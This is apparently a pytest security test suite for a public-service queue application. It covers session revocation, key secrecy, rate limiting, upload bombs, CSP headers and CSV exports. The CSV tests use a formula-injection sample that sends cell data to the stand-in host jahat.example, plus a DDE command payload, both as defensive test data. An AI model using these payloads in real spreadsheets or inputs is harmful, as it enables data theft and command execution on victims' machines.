"""Trust (issue 14): sessions that really end, keys only for those who need them, no cheap harm."""

from __future__ import annotations

import base64
import hashlib
import re

import pytest

from conftest import KIOSK, PASSWORD, login, settle
from loket import realtime


def assert_error(response, status, code):
    assert response.status_code == status, response.get_data(as_text=True)
    body = response.get_json()
    assert body["error"] == code, body
    assert isinstance(body["message"], str) and body["message"]
    return body


def session_cookie(client) -> str:
    return client.get_cookie("session").value


def new_client(app, cookie: str | None = None):
    other = app.test_client()
    if cookie:
        other.set_cookie("session", cookie)
    return other


# ---------------------------------------------------------------- sessions


def test_a_copied_cookie_is_refused_after_logout(app, client):
    login(client, "petugas.dukcapil")
    copied = session_cookie(client)
    assert client.post("/api/logout").status_code == 200
    thief = new_client(app, copied)
    assert_error(thief.get("/api/me"), 401, "session_expired")
    assert_error(thief.post("/api/counters/1/open"), 401, "session_expired")


def test_logout_on_one_device_keeps_the_other_devices_logged_in(app, client):
    login(client, "petugas.dukcapil")
    other = new_client(app)
    login(other, "petugas.dukcapil")
    client.post("/api/logout")
    assert other.get("/api/me").status_code == 200


def test_a_password_reset_ends_every_session_of_that_user(app, client):
    login(client, "petugas.dukcapil")
    laptop = new_client(app)
    login(laptop, "petugas.dukcapil")
    admin = new_client(app)
    login(admin, "admin")
    user_id = client.get("/api/me").get_json()["user"]["id"]
    assert admin.post(f"/api/admin/users/{user_id}/password", json={"password": "kata-sandi-baru-1"}).status_code == 200
    for device in (client, laptop):
        assert_error(device.get("/api/me"), 401, "session_expired")
    assert admin.get("/api/me").status_code == 200


def test_deactivation_ends_sessions_even_after_the_user_is_activated_again(app, client):
    officer = login(client, "petugas.dukcapil")
    admin = new_client(app)
    login(admin, "admin")
    assert admin.put(f"/api/admin/users/{officer['id']}", json={"active": False}).status_code == 200
    assert admin.put(f"/api/admin/users/{officer['id']}", json={"active": True}).status_code == 200
    assert_error(client.get("/api/me"), 401, "session_expired")
    login(client, "petugas.dukcapil")
    assert client.get("/api/me").status_code == 200


def test_moving_an_officer_to_another_agency_ends_their_sessions_and_sockets(app, client, db):
    officer = login(client, "petugas.dukcapil")
    socket, answer = socket_for(app, client, {"room": "counter", "counter_id": 1})
    assert answer == {"ok": True}
    admin = new_client(app)
    login(admin, "admin")
    imigrasi = db.execute("SELECT id FROM agencies WHERE code = 'IMIGRASI'").fetchone()[0]
    assert admin.put(f"/api/admin/users/{officer['id']}", json={"agency_id": imigrasi}).status_code == 200
    settle(app)  # sockets are dropped after the commit, by the emitter
    assert not socket.is_connected()
    assert_error(client.get("/api/me"), 401, "session_expired")


def test_the_session_cookie_is_written_at_login_not_on_every_response(client):
    login(client, "petugas.dukcapil")
    for path in ("/api/me", "/api/counters", "/counter/"):
        response = client.get(path)
        assert "Set-Cookie" not in response.headers, (path, response.headers.get("Set-Cookie"))


def socket_for(app, client, subscription: dict):
    socket = realtime.socketio.test_client(app, flask_test_client=client)
    answer = socket.emit("subscribe", subscription, callback=True)
    return socket, answer


def test_a_socket_with_a_logged_out_cookie_cannot_join_the_counter_or_staff_room(app, client):
    login(client, "petugas.dukcapil")
    copied = session_cookie(client)
    client.post("/api/logout")
    thief = new_client(app, copied)
    for subscription in ({"room": "counter", "counter_id": 1}, {"room": "staff"}):
        socket, answer = socket_for(app, thief, subscription)
        assert answer["error"] == "session_expired", answer
        socket.disconnect()


@pytest.mark.parametrize("ending", ["logout", "password_reset", "deactivation"])
def test_a_socket_is_dropped_from_staff_rooms_when_its_session_ends(app, client, ending):
    officer = login(client, "petugas.dukcapil")
    socket, answer = socket_for(app, client, {"room": "counter", "counter_id": 1})
    assert answer == {"ok": True}
    bystander_client = new_client(app)
    login(bystander_client, "petugas.dukcapil")
    bystander, _ = socket_for(app, bystander_client, {"room": "staff"})
    admin = new_client(app)
    login(admin, "admin")
    if ending == "logout":
        client.post("/api/logout")
    elif ending == "password_reset":
        admin.post(f"/api/admin/users/{officer['id']}/password", json={"password": "kata-sandi-baru-1"})
    else:
        admin.put(f"/api/admin/users/{officer['id']}", json={"active": False})
    settle(app)  # sockets are dropped after the commit, by the emitter
    assert not socket.is_connected()
    assert bystander.is_connected() is (ending == "logout")
    bystander.disconnect() if bystander.is_connected() else None


def test_a_session_end_that_rolls_back_drops_no_socket(app, client):
    """The drop is said inside the transaction and sent after its commit: a failed reset drops nobody."""
    from loket import auth
    from loket.db import get_db, transaction

    officer = login(client, "petugas.dukcapil")
    socket, answer = socket_for(app, client, {"room": "counter", "counter_id": 1})
    assert answer == {"ok": True}
    with app.app_context(), pytest.raises(RuntimeError):
        db = get_db()
        with transaction(db):
            auth.end_sessions(db, officer["id"])
            raise RuntimeError("the reset failed after the sessions were deleted")
    settle(app)
    assert socket.is_connected()
    assert client.get("/api/me").status_code == 200
    socket.disconnect()


def test_a_wrong_password_leaves_the_session_table_clean_and_login_still_works(client):
    assert_error(client.post("/api/login", json={"username": "petugas.dukcapil", "password": "salah-salah"}), 401, "invalid_credentials")
    assert client.post("/api/login", json={"username": "petugas.dukcapil", "password": PASSWORD}).status_code == 200


# ---------------------------------------------------------------- kiosk keys and printer addresses


def test_supervisors_never_read_a_kiosks_agent_key_or_printer_address(app, client, db):
    login(client, "supervisor.dukcapil")
    listed = client.get("/api/admin/kiosks").get_json()["items"]
    assert listed and all("agent_key" not in k and "printer_url" not in k for k in listed)
    one = client.get(f"/api/admin/kiosks/{listed[0]['id']}").get_json()
    one = one.get("item", one)
    assert "agent_key" not in one and "printer_url" not in one
    admin = new_client(app)
    login(admin, "admin")
    item = admin.get("/api/admin/kiosks").get_json()["items"][0]
    assert item["agent_key"] and item["printer_url"] == "dummy"


def test_the_public_kiosk_answer_and_its_printer_error_never_show_the_printer_address(client, db):
    db.execute("UPDATE kiosks SET printer_url = 'tcp://10.20.30.40:9100' WHERE name = 'kios-1'")
    db.execute(
        "UPDATE kiosks SET printer_state = 'error',"
        " printer_error = 'cannot open printer tcp://10.20.30.40:9100: connection refused (10.20.30.40)' WHERE name = 'kios-1'"
    )
    db.conn.commit()
    text = client.get("/api/kiosks/kios-1").get_data(as_text=True)
    assert "10.20.30.40" not in text and "9100" not in text
    kiosk = client.get("/api/kiosks/kios-1").get_json()["kiosk"]
    assert kiosk["printer"] == "tcp" and kiosk["printer_state"] == "error" and kiosk["printer_error"]


# ---------------------------------------------------------------- survey tablets

ALL_FOURS = {f"U{i}": 4 for i in range(1, 10)}


def served_at_counter_1(client) -> dict:
    ticket = client.post("/api/tickets", headers=KIOSK, json={"service_id": 1}).get_json()
    client.post("/api/counters/1/open")
    assert client.post("/api/counters/1/call-next").get_json()["ticket"]["id"] == ticket["id"]
    assert client.post("/api/counters/1/complete").status_code == 200
    return ticket


def test_anyone_on_the_wifi_cannot_rate_a_ticket_by_counter_and_id(app, client):
    login(client, "petugas.dukcapil")
    ticket = served_at_counter_1(client)
    stranger = new_client(app)
    body = {"counter_id": 1, "ticket_id": ticket["id"], "answers": ALL_FOURS}
    assert_error(stranger.post("/api/survey/answers", json=body), 403, "tablet_not_paired")
    assert_error(stranger.post("/api/survey/answers", json={**body, "tablet_key": "guess"}), 403, "tablet_not_paired")
    # The citizen's own link (the ticket token) still works.
    assert stranger.post("/api/survey/answers", json={"ticket_token": ticket["token"], "answers": ALL_FOURS}).status_code == 201


def test_an_admin_pairs_a_counters_tablet_and_only_that_tablet_answers_for_it(app, client):
    admin = new_client(app)
    login(admin, "admin")
    paired = admin.post("/api/survey/tablets/1/pair").get_json()
    key = paired["tablet_key"]
    assert paired["pair_url"].endswith(f"/survey/?counter=1#pair={key}")
    tablet = new_client(app)
    assert tablet.get("/api/survey/tablets/1/status", headers={"X-Tablet-Key": key}).get_json()["paired"] is True
    assert tablet.get("/api/survey/tablets/2/status", headers={"X-Tablet-Key": key}).get_json()["paired"] is False
    login(client, "petugas.dukcapil")
    ticket = served_at_counter_1(client)
    body = {"counter_id": 1, "ticket_id": ticket["id"], "answers": ALL_FOURS}
    other_counter = tablet.post("/api/survey/answers", json={**body, "counter_id": 2}, headers={"X-Tablet-Key": key})
    assert_error(other_counter, 403, "tablet_not_paired")
    assert tablet.post("/api/survey/answers", json=body, headers={"X-Tablet-Key": key}).status_code == 201
    listed = {t["counter_id"]: t for t in admin.get("/api/survey/tablets").get_json()["items"]}
    assert listed[1]["paired_at"] and listed[2]["paired_at"] is None and "key_hash" not in listed[1]
    assert admin.delete("/api/survey/tablets/1").status_code == 200
    assert tablet.get("/api/survey/tablets/1/status", headers={"X-Tablet-Key": key}).get_json()["paired"] is False


def test_only_an_admin_pairs_or_lists_tablets(app, client):
    login(client, "supervisor.dukcapil")
    assert_error(client.post("/api/survey/tablets/1/pair"), 403, "forbidden")
    assert_error(client.get("/api/survey/tablets"), 403, "forbidden")
    assert_error(new_client(app).delete("/api/survey/tablets/1"), 401, "login_required")


# ---------------------------------------------------------------- photo uploads


def image_bytes(width: int, height: int, fmt: str = "PNG") -> bytes:
    import io

    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 120, 40)).save(out, format=fmt, **({"quality": 60} if fmt == "JPEG" else {}))
    return out.getvalue()


def post_photo(client, data: bytes, name: str = "foto.png"):
    import io

    return client.post("/api/complaints", data={"kind": "complaint", "text": "Lantai licin", "photo": (io.BytesIO(data), name)})


def test_a_small_file_of_huge_dimensions_is_refused_before_it_is_decoded(app, client, tmp_path):
    import time

    app.config["COMPLAINT_PHOTO_DIR"] = str(tmp_path / "photos")
    bomb = image_bytes(6300, 6300)
    assert len(bomb) < 400_000
    started = time.monotonic()
    body = assert_error(post_photo(client, bomb), 413, "photo_too_many_pixels")
    assert time.monotonic() - started < 1.5
    assert "12" in body["message"]


def test_a_large_phone_photo_is_kept_downscaled_to_the_pixel_cap(app, client, db, tmp_path):
    from PIL import Image

    folder = tmp_path / "photos"
    app.config["COMPLAINT_PHOTO_DIR"] = str(folder)
    response = post_photo(client, image_bytes(5000, 3750, "JPEG"), "foto.jpg")  # 18.75 MP, like a 48 MP phone's binned photo
    assert response.status_code == 201, response.get_json()
    [stored] = list(folder.iterdir())
    with Image.open(stored) as img:
        assert img.width * img.height <= 12_000_000 and img.width / img.height == 5000 / 3750


def test_photo_uploads_are_limited_per_address_whatever_the_device_cookie(app, client, tmp_path):
    app.config["COMPLAINT_PHOTO_DIR"] = str(tmp_path / "photos")
    app.config["COMPLAINT_LIMITS"] = {"photo_ip": (3, 3600)}
    small = image_bytes(40, 30)
    for _ in range(3):
        fresh = new_client(app)
        fresh.set_cookie("loket_device", __import__("secrets").token_urlsafe(16))
        assert post_photo(fresh, small).status_code == 201
    assert_error(post_photo(new_client(app), small), 429, "rate_limited")
    # Without a photo the (generous) complaint limit still applies, so text complaints go on.
    assert new_client(app).post("/api/complaints", json={"kind": "suggestion", "text": "Tambah kursi"}).status_code == 201


def test_image_work_is_bounded_and_a_busy_server_says_so(app, client, tmp_path):
    from complaints import photos

    app.config["COMPLAINT_PHOTO_DIR"] = str(tmp_path / "photos")
    app.config["PHOTO_WAIT_SECONDS"] = 0.2
    slots = photos.slots(app)
    taken = 0
    while slots.acquire(blocking=False):
        taken += 1
    try:
        assert taken == app.config["PHOTO_WORKERS"] >= 1
        assert_error(post_photo(client, image_bytes(40, 30)), 503, "server_busy")
    finally:
        for _ in range(taken):
            slots.release()
    assert post_photo(client, image_bytes(40, 30)).status_code == 201


# ---------------------------------------------------------------- login spraying and the trusted proxy


def wrong_login(client, username: str, address: str = "127.0.0.1", forwarded: str | None = None):
    headers = {"X-Forwarded-For": forwarded} if forwarded else {}
    return client.post(
        "/api/login", json={"username": username, "password": "salah-sekali"}, headers=headers, environ_base={"REMOTE_ADDR": address}
    )


def test_one_address_cannot_spray_passwords_across_many_usernames(client):
    for number in range(20):
        assert wrong_login(client, f"tebakan{number}").status_code == 401
    assert_error(wrong_login(client, "tebakan-baru"), 429, "rate_limited")
    right = client.post("/api/login", json={"username": "admin", "password": PASSWORD})
    assert_error(right, 429, "rate_limited")
    other = client.post("/api/login", json={"username": "admin", "password": PASSWORD}, environ_base={"REMOTE_ADDR": "10.1.1.2"})
    assert other.status_code == 200


def test_without_a_trusted_proxy_forwarded_addresses_are_ignored(client):
    for number in range(20):
        assert wrong_login(client, f"tebakan{number}", forwarded=f"10.9.0.{number}").status_code == 401
    assert_error(wrong_login(client, "lain", forwarded="10.9.9.9"), 429, "rate_limited")


def test_behind_a_trusted_proxy_each_client_has_its_own_address(app, client):
    from server import create_app

    proxied = create_app({**app.config, "TRUSTED_PROXIES": 1}).test_client()
    for number in range(20):
        assert wrong_login(proxied, f"tebakan{number}", forwarded="10.9.0.1").status_code == 401
    assert_error(wrong_login(proxied, "lain", forwarded="10.9.0.1"), 429, "rate_limited")
    # Another citizen behind the same nginx is not locked out.
    assert wrong_login(proxied, "lain", forwarded="10.9.0.2").status_code == 401


# ---------------------------------------------------------------- screens that prove themselves


def seen(db, table: str, name: str):
    return db.execute(f"SELECT last_seen_at FROM {table} WHERE name = ?", (name,)).fetchone()[0]


def test_an_anonymous_kiosk_subscription_does_not_make_a_dead_kiosk_look_alive(app, db):
    socket = realtime.socketio.test_client(app)
    assert socket.emit("subscribe", {"room": "kiosk", "kiosk": "kios-1"}, callback=True) == {"ok": True}
    assert seen(db, "kiosks", "kios-1") is None
    key = db.execute("SELECT agent_key FROM kiosks WHERE name = 'kios-1'").fetchone()[0]
    assert socket.emit("subscribe", {"room": "kiosk", "kiosk": "kios-1", "agent_key": key}, callback=True) == {"ok": True}
    assert seen(db, "kiosks", "kios-1") is not None
    socket.disconnect()


def test_display_status_counts_only_from_the_screen_subscribed_as_that_display(app, db):
    stranger = realtime.socketio.test_client(app)
    stranger.emit("display_status", {"display": "lobi", "voice_mode": "palsu"}, callback=True)
    assert db.execute("SELECT voice_mode FROM displays WHERE name = 'lobi'").fetchone()[0] != "palsu"
    stranger.emit("subscribe", {"room": "display", "display": "lantai-2"}, callback=True)
    stranger.emit("display_status", {"display": "lobi", "voice_mode": "palsu"}, callback=True)
    assert db.execute("SELECT voice_mode FROM displays WHERE name = 'lobi'").fetchone()[0] != "palsu"
    screen = realtime.socketio.test_client(app)
    screen.emit("subscribe", {"room": "display", "display": "lobi"}, callback=True)
    assert screen.emit("display_status", {"display": "lobi", "voice_mode": "espeak"}, callback=True) == {"ok": True}
    assert db.execute("SELECT voice_mode FROM displays WHERE name = 'lobi'").fetchone()[0] == "espeak"
    stranger.disconnect()
    screen.disconnect()


def test_one_socket_cannot_follow_unbounded_complaints(app):
    socket = realtime.socketio.test_client(app)
    from loket.complaints import CODE_ALPHABET

    codes = ["ADU-" + CODE_ALPHABET[n % len(CODE_ALPHABET)] * 4 + "-" + CODE_ALPHABET[n // len(CODE_ALPHABET)] * 4 for n in range(30)]
    answers = [socket.emit("follow_complaint", {"code": code}, callback=True) for code in codes]
    refused = [a for a in answers if a.get("error")]
    assert refused and refused[0]["error"] == "too_many_follows" and refused[0]["message"]
    assert sum(1 for a in answers if a.get("ok")) <= 10
    socket.disconnect()


@pytest.mark.parametrize(
    "subscription",
    [
        {"room": "display", "display": ["x"]},
        {"room": "display", "display": {"a": 1}},
        {"a": 1},
        {"room": ["display"]},
        {"room": "kiosk", "kiosk": ["kios-1"]},
        {"room": "kiosk", "kiosk": "kios-1", "agent_key": ["x"]},
        {"room": "counter", "counter_id": [1]},
        {"room": "ticket", "token": {"x": 1}},
        {"room": "display", "agency_ids": [[1]]},
    ],
)
def test_a_malformed_subscription_gets_the_error_shape(app, subscription):
    socket = realtime.socketio.test_client(app)
    answer = socket.emit("subscribe", subscription, callback=True)
    assert set(answer) >= {"error", "message"} and answer["error"] in ("bad_request", "invalid_field"), answer
    assert socket.is_connected()
    socket.disconnect()


# ---------------------------------------------------------------- errors


def write_endpoints(app) -> list[tuple[str, str]]:
    found = []
    for rule in app.url_map.iter_rules():
        for method in sorted((rule.methods or set()) & {"POST", "PUT", "PATCH", "DELETE"}):
            path = rule.rule
            for arg in rule.arguments:
                converter = rule._converters[arg].__class__.__name__
                path = path.replace(f"<int:{arg}>", "1").replace(f"<{arg}>", "kios-1" if converter != "IntegerConverter" else "1")
                path = path.replace(f"<path:{arg}>", "x")
            found.append((method, path))
    return found


def test_deeply_nested_json_is_a_400_on_every_json_endpoint(app, client):
    login(client, "admin")
    nested = "[" * 5000 + "]" * 5000
    endpoints = write_endpoints(app)
    assert len(endpoints) > 30
    for method, path in endpoints:
        response = client.open(path, method=method, data=nested, content_type="application/json")
        assert response.status_code < 500, (method, path, response.status_code, response.get_data(as_text=True)[:200])
        if response.status_code >= 400:
            assert response.get_json()["error"], (method, path)
    objects = '{"a":' * 3000 + "1" + "}" * 3000
    assert_error(client.post("/api/login", data=objects, content_type="application/json"), 400, "invalid_json")


@pytest.mark.parametrize("agency_ids", ["[abc", "[1, [2]]", '{"a": 1}', "[" * 3000, "[true]", "[1.5]"])
def test_a_display_with_unreadable_agency_ids_is_a_400(client, agency_ids):
    login(client, "admin")
    body = assert_error(client.put("/api/admin/displays/1", json={"agency_ids": agency_ids}), 400, "invalid_field")
    assert body["field"] == "agency_ids"


# ---------------------------------------------------------------- CSV exports


FORMULA = '=HYPERLINK("http://jahat.example/?x="&A1,"Klik")'


def csv_cells(response) -> list[str]:
    import csv
    import io

    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))) for cell in row]


@pytest.mark.parametrize(
    "path",
    [
        "/api/admin/reports/summary?from=2026-11-25&group=agency&format=csv",
        "/api/admin/reports/live?format=csv",
        "/api/reports/ikm.csv?agency_id=1",
        "/api/complaints/export.csv",
    ],
)
def test_no_export_turns_a_name_into_a_live_formula(client, db, path):
    db.execute("UPDATE agencies SET name = ? WHERE id = 1", (FORMULA,))
    db.execute("UPDATE services SET name = '+SUM(1,1)' WHERE agency_id = 1")
    db.conn.commit()
    client.post("/api/complaints", json={"kind": "complaint", "text": "@cmd|' /C calc'!A0", "agency_id": 1, "name": "-2+3"})
    assert client.post("/api/tickets", headers=KIOSK, json={"service_id": 1}).status_code == 201
    login(client, "admin")
    cells = csv_cells(client.get(path))
    assert cells
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not dangerous, dangerous
    if "reports/" in path:
        assert "'" + FORMULA in cells


# ---------------------------------------------------------------- headers, cookies, files

PAGES = [
    "/",
    "/kiosk/?kiosk=kios-1",
    "/ambil/",
    "/display/?display=lobi",
    "/counter/",
    "/counter/supervisor",
    "/admin/",
    "/admin/reports",
    "/admin/reports/recap",
    "/admin/ikm",
    "/admin/complaints",
    "/admin/survey-tablets",
    "/aduan/",
    "/survey/?counter=1",
]


@pytest.mark.parametrize("path", PAGES)
def test_every_page_sends_a_content_security_policy_that_forbids_inline_script(client, path):
    response = client.get(path)
    assert response.status_code in (200, 302), path
    policy = response.headers.get("Content-Security-Policy", "")
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";") if d.strip())
    html = response.get_data(as_text=True)
    # the one inline script is the page's import map, allowed by its exact hash and nothing else
    maps = re.findall(r'<script type="importmap">(.*?)</script>', html, flags=re.S)
    digest = base64.b64encode(hashlib.sha256(maps[0].encode()).digest()).decode() if maps else None
    assert directives["script-src"] == (f"'self' 'sha256-{digest}'" if maps else directives["script-src"])
    assert directives["script-src"].split()[0] == "'self'" and "unsafe" not in directives["script-src"]
    assert directives["object-src"] == "'none'" and directives["frame-ancestors"] == "'self'"
    assert "onclick=" not in html and "<script>" not in html and '<script type="module">' not in html and len(maps) <= 1


def test_the_ticket_page_has_the_policy_too(client):
    ticket = client.post("/api/tickets", headers=KIOSK, json={"service_id": 1}).get_json()
    response = client.get(f"/t/{ticket['token']}")
    assert "script-src 'self'" in response.headers["Content-Security-Policy"]


def test_the_server_header_names_no_versions(live_server):
    import requests

    for path in ("/", "/api/health", "/socket.io/?EIO=4&transport=polling", "/nope"):
        server = requests.get(live_server.url + path, timeout=10).headers.get("Server", "")
        assert server == "Loket", (path, server)


def test_the_session_cookie_is_secure_only_when_the_mpp_says_it_runs_behind_tls(app, tmp_path):
    from server import create_app

    plain = app.test_client()
    login(plain, "admin")
    assert "Secure" not in plain.get_cookie("session").__repr__() and not plain.get_cookie("session").secure
    secure_app = create_app({**app.config, "SECURE_COOKIES": True})
    secure = secure_app.test_client()
    response = secure.post("/api/login", json={"username": "admin", "password": PASSWORD}, base_url="https://localhost")
    assert response.status_code == 200
    assert "Secure" in response.headers["Set-Cookie"]
    page = secure.get("/aduan/", base_url="https://localhost")
    assert all("Secure" in c for c in page.headers.getlist("Set-Cookie"))


def test_the_database_its_wal_and_the_secret_key_are_not_readable_by_others(tmp_path, clock, monkeypatch):
    import stat

    from server import create_app

    monkeypatch.delenv("LOKET_SECRET_KEY", raising=False)
    os_umask = __import__("os").umask(0o022)  # a typical login shell's
    try:
        path = tmp_path / "baru" / "loket.db"
        app = create_app({"DATABASE": str(path), "CLOCK": clock, "TESTING": True})
        app.test_client().post("/api/tickets", headers=KIOSK, json={"service_id": 1})
        for name in ("loket.db", "loket.db-wal", "secret_key"):
            mode = stat.S_IMODE((path.parent / name).stat().st_mode)
            assert mode & 0o007 == 0, (name, oct(mode))
        assert stat.S_IMODE((path.parent / "secret_key").stat().st_mode) == 0o600
    finally:
        __import__("os").umask(os_umask)


def test_an_existing_world_readable_database_is_tightened_at_start(tmp_path, clock, demo_template):
    import shutil
    import stat

    from server import create_app

    path = tmp_path / "lama.db"
    shutil.copyfile(demo_template, path)
    path.chmod(0o644)
    create_app({"DATABASE": str(path), "CLOCK": clock, "SECRET_KEY": "x", "TESTING": True})
    assert stat.S_IMODE(path.stat().st_mode) & 0o007 == 0


def test_complaint_photos_are_stored_unreadable_by_others(app, client, tmp_path):
    import stat

    folder = tmp_path / "photos"
    app.config["COMPLAINT_PHOTO_DIR"] = str(folder)
    assert post_photo(client, image_bytes(40, 30)).status_code == 201
    [stored] = list(folder.iterdir())
    assert stat.S_IMODE(stored.stat().st_mode) & 0o007 == 0


# ---------------------------------------------------------------- officers' names


def test_public_counters_show_the_lobby_what_it_needs_not_who_is_working(app, client, db):
    officer = new_client(app)
    login(officer, "petugas.dukcapil")
    assert officer.post("/api/counters/1/open").status_code == 200
    public = {c["id"]: c for c in client.get("/api/counters").get_json()}
    assert public[1]["state"] == "open" and public[1]["name"] == "Loket 1"
    assert "Petugas Dukcapil" not in client.get("/api/counters").get_data(as_text=True)
    assert public[1].get("officer") is None
    # Staff still see who works where.
    staff = {c["id"]: c for c in officer.get("/api/counters").get_json()}
    assert staff[1]["officer"] == "Petugas Dukcapil"
    # An MPP that wants names in the lobby opts in.
    admin = new_client(app)
    login(admin, "admin")
    assert admin.put("/api/admin/profile", json={"public_officer_names": True}).status_code == 200
    assert {c["id"]: c for c in client.get("/api/counters").get_json()}[1]["officer"] == "Petugas Dukcapil"


# ---------------------------------------------------------------- complaint due dates


@pytest.mark.parametrize(
    ("received", "days", "due"),
    [
        ("2026-08-28", 5, "2026-11-05"),  # the case: closed 1 Sep – 31 Oct
        ("2026-08-28", 1, "2026-08-31"),
        ("2026-08-31", 14, "2026-11-19"),
        ("2026-11-02", 5, "2026-11-09"),
    ],
)
def test_a_due_date_never_falls_on_a_day_the_mpp_is_closed_even_after_a_long_closure(db, received, days, due):
    from datetime import date, timedelta

    from loket.complaints import add_working_days

    start = date(2026, 9, 1)
    db.conn.executemany(
        "INSERT INTO closed_dates (date, agency_id, reason) VALUES (?, NULL, 'Renovasi gedung')",
        [((start + timedelta(days=n)).isoformat(),) for n in range(61)],
    )
    db.conn.commit()
    assert add_working_days(db, date.fromisoformat(received), days).isoformat() == due


@pytest.mark.parametrize("path", ["/admin/", "/counter/", "/admin/survey-tablets", "/admin/ikm", "/aduan/"])
def test_forms_with_a_password_or_a_citizens_details_never_put_them_in_a_url(client, path):
    """Sent before the page's script is ready (Enter on an autofilled login), a form without a method
    would GET its fields: the password or the citizen's details would sit in the address and the logs."""
    page = client.get(path).get_data(as_text=True)
    forms = re.findall(r"<form\b[^>]*>.*?</form>", page, re.S)
    private = [f for f in forms if re.search(r'type="password"|name="(phone|email|name|nik|description)"', f)]
    assert private, f"{path}: no login or personal form found"
    for form in private:
        assert re.match(r'<form\b[^>]*\bmethod="post"', form), form[:120]
